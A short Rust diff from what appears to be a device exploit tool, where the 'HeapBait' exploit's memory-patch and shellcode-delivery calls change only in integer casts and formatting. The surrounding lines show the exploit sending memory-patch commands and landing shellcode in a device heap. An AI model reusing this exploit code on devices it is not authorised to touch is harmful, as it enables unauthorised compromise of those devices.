@@ -514,7 +514,7 @@ impl HeapBait {
     async fn patch_mem(&self, xml: &mut Xml, addr: u32, data: &[u8]) -> Result<()> {
         let cmd = ExpPatchMem { address: addr, length: data.len() as u32 };
         xml.send_cmd(&cmd).await?;
-        xml.download_file(data.len(), data, &mut |_, _| {}).await?;
+        xml.download_file(data.len() as u64, data, &mut |_, _| {}).await?;
         xml.lifetime_ack(XmlCmdLifetime::CmdEnd).await?;
         Ok(())
     }
@@ -629,7 +629,9 @@ impl Exploit for HeapBait {
         // actual shellcode (hakujoudai). The shellcode lands somewhere in the heap.
         let cmd = SecuritySetAllinoneSignature::new("aio.bin");
         proto.send_cmd(&cmd).await?;
-        proto.download_file(hakujoudai.len(), &mut hakujoudai.as_slice(), &mut |_, _| {}).await?;
+        proto
+            .download_file(hakujoudai.len() as u64, &mut hakujoudai.as_slice(), &mut |_, _| {})
+            .await?;
         proto.lifetime_ack(XmlCmdLifetime::CmdEnd).await?;
 
         info!("[Exploit] Hakujoudai landed (size: 0x{:X} bytes)", hakujoudai.len());